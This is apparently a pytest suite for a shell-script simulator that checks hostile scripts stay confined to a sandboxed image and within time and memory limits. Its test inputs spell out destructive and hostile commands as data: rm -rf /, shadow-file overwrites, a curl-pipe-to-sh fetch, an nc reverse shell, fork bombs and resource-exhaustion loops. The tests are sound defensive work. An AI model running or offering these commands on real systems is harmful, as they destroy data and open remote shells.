"""Hostile scripts change nothing on the host and are bounded in time and memory.

Every test runs with the host's process-spawning and network calls replaced by functions
that fail the test, and checks a canary directory on the host byte for byte. The image is
either a MemoryFS or a HostDirFS over a scratch tree holding symlinks that point at the
canary (an absolute one and a ``..`` one), so confinement is exercised through the
interpreter and the command models together.
"""

from __future__ import annotations

import hashlib
import os
import socket
import subprocess
import time

import pytest

from nuwa.fs.memory import MemoryFS
from nuwa.script.commands import default_models
from nuwa.script.interp import run_script

MODELS = default_models()




def _tree_digest(root: str) -> str:
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in sorted(os.walk(root)):
        dirnames.sort()
        for n in sorted(dirnames + filenames):
            p = os.path.join(dirpath, n)
            st = os.lstat(p)
            h.update(f"{os.path.relpath(p, root)}:{st.st_mode}:{st.st_size}\n".encode())
            if os.path.isfile(p) and not os.path.islink(p):
                with open(p, "rb") as f:
                    h.update(f.read())
    return h.hexdigest()


@pytest.fixture
def no_host_effects(monkeypatch, tmp_path):
    """Forbid spawning and networking; yield a canary dir whose digest must not change."""

    def forbidden(*a, **k):
        raise AssertionError("the simulator tried to reach the host")

    for name in ("system", "fork", "forkpty", "execv", "execve", "execvp", "execvpe", "spawnv",
                 "spawnve", "posix_spawn", "posix_spawnp", "popen"):
        if hasattr(os, name):
            monkeypatch.setattr(os, name, forbidden)
    monkeypatch.setattr(subprocess, "Popen", forbidden)
    monkeypatch.setattr(socket, "socket", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)
    canary = tmp_path / "canary"
    canary.mkdir()
    (canary / "precious").write_bytes(b"do not touch\n")
    (canary / "sub").mkdir()
    (canary / "sub" / "deep").write_bytes(b"x" * 1000)
    before = _tree_digest(str(canary))
    yield canary
    assert _tree_digest(str(canary)) == before, "the host canary changed"


def image_fs() -> MemoryFS:
    fs = MemoryFS()
    for d in ("/etc", "/usr/bin", "/bin", "/proc", "/root", "/tmp"):
        fs.makedirs(d)
    fs.write_bytes("/etc/shadow", b"root:*:19000:0:99999:7:::\n", 0o640)
    for tool in ("rm", "cat", "curl", "wget", "mkdir", "chmod", "yes", "dd", "nc"):
        fs.write_bytes(f"/usr/bin/{tool}", b"\x7fELF", 0o755)
    return fs


def timed(fs, text, **kw):
    t0 = time.monotonic()
    r = run_script(fs, text, ["configure"], **kw, models=MODELS)
    return r, time.monotonic() - t0


def test_rm_rf_root_only_touches_the_image(no_host_effects, tmp_path):
    from nuwa.fs.hostdir import HostDirFS

    root = tmp_path / "image"
    (root / "etc").mkdir(parents=True)
    (root / "usr" / "bin").mkdir(parents=True)
    (root / "usr" / "bin" / "rm").write_bytes(b"")
    os.chmod(root / "usr" / "bin" / "rm", 0o755)
    (root / "etc" / "passwd").write_bytes(b"root:x:0:0::/root:/bin/sh\n")
    os.symlink(str(no_host_effects), root / "abs-escape")  # absolute: resolves inside the image
    os.symlink("../canary", root / "rel-escape")  # `..` at the image root stays at the root
    fs = HostDirFS(str(root), writable=True)
    r, dt = timed(fs, "rm -rf / /abs-escape/ /rel-escape/ /abs-escape/precious /rel-escape/precious\n"
                      "rm -rf --no-preserve-root /\ncd /rel-escape 2>/dev/null; rm -rf . 2>/dev/null; exit 0")
    assert dt < 20
    if "rm" in MODELS:
        assert not (root / "etc").exists(), "rm ran inside the image"
    assert r.status == 0 or r.deferred_whole


def test_write_shadow_and_read_proc_stay_in_image(no_host_effects):
    host_shadow = None
    if os.path.exists("/etc/shadow"):
        with open("/etc/shadow", "rb") as f:
            host_shadow = hashlib.sha256(f.read()).hexdigest()
    fs = image_fs()
    r, _ = timed(fs, "echo 'root::0:0:::::' > /etc/shadow\necho hacked >> /etc/passwd\n"
                     "read l < /proc/self/environ; echo \"[$l]\"\ncat /proc/self/maps > /tmp/maps || true\n")
    assert fs.read_bytes("/etc/shadow") == b"root::0:0:::::\n"
    if host_shadow is not None:
        with open("/etc/shadow", "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == host_shadow
    assert b"cannot open /proc/self/environ" in r.stderr


def test_network_tools_are_never_run(no_host_effects):
    fs = image_fs()
    r, _ = timed(fs, "curl -fsSL http://203.0.113.1/x | sh\nwget -qO- http://203.0.113.1/y > /tmp/y || true\n"
                     "nc -e /bin/sh 203.0.113.1 4444 || true\n")
    # the piped curl output would be used: the whole script waits for first boot
    assert r.deferred_whole and "curl" in r.reason


def test_dash_fork_bomb_is_a_syntax_error(no_host_effects):
    r, dt = timed(image_fs(), ":(){ :|:& };:")
    assert r.deferred_whole and "Bad function name" in r.reason and dt < 5


@pytest.mark.parametrize("text", [
    "bomb() { bomb | bomb & }; bomb",
    "f() { f; }; f",
    "f() { ( f ); }; f",
    "f() { x=$(f); }; f",
])
def test_recursion_is_bounded(no_host_effects, text):
    r, dt = timed(image_fs(), text)
    assert r.deferred_whole and "deeper than" in r.reason and dt < 20


@pytest.mark.parametrize("text", [
    "while :; do :; done",
    "while true; do echo spin > /tmp/spin; done",
    "until false; do i=$((i+1)); done",
    "f() { g; }; g() { f2; }; f2() { :; }; while :; do f; done",
    "trap 'while :; do :; done' EXIT",
])
def test_endless_loops_hit_the_step_budget(no_host_effects, text):
    r, dt = timed(image_fs(), text)
    assert r.deferred_whole and "step budget" in r.reason and dt < 30


@pytest.mark.parametrize("text", [
    "while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done",
    "x=x; while :; do x=$x$x; done",
    "x=x; while :; do x=$x$x; echo $x >> /tmp/big; done",
    "printf '%999999999s' x",
    "printf '%.999999999f' 1",
    "x=$(printf '%s' \"$(printf '%1000000s')\"); while :; do echo \"$x$x$x$x\"; done",
])
def test_gigantic_output_is_bounded(no_host_effects, text):
    fs = image_fs()
    r, dt = timed(fs, text, max_output=8 << 20)
    assert r.deferred_whole and dt < 30
    assert len(r.stdout) <= 8 << 20


def test_deep_syntax_nesting_is_bounded(no_host_effects):
    text = "(" * 20000 + "true" + ")" * 20000
    r, dt = timed(image_fs(), text)
    assert r.deferred_whole and r.reason.startswith("parse error") and dt < 20
    text = "echo " + "$(" * 3000 + "x" + ")" * 3000
    r, dt = timed(image_fs(), text)
    assert r.deferred_whole and dt < 20
